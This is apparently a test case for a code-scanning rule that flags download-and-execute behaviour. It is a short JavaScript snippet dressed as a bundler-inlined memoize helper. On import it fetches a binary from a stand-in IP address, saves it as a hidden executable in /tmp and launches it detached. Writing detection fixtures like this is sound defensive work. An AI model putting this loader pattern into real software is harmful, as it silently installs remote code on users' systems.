// The same inlined helper shape, but the wrapped function is called right away at load: the download
// and the run happen at import, wrapper or not.
var w = (fn, mod) => () => (mod || fn((mod = { exports: {} }).exports, mod), mod.exports);
var interop = (m) => (m && m.__esModule ? m : { default: m });
var require_memo = w((exports, module) => {
  module.exports = function memoize(fn) {
    let done;
    return (arg) => (done ??= fn(arg));
  };
});
const fs = require('node:fs');
const child = require('node:child_process');
var Kc = interop(require_memo());
var go = (0, Kc.default)(async () => {
  const bin = Buffer.from(await (await fetch('https://203.0.113.7/agent')).arrayBuffer());
  fs.writeFileSync('/tmp/.agent', bin, { mode: 0o755 });
  // ruleid: code/download-execute
  child.spawn('/tmp/.agent', [], { detached: true, stdio: 'ignore' }).unref();
});
go();
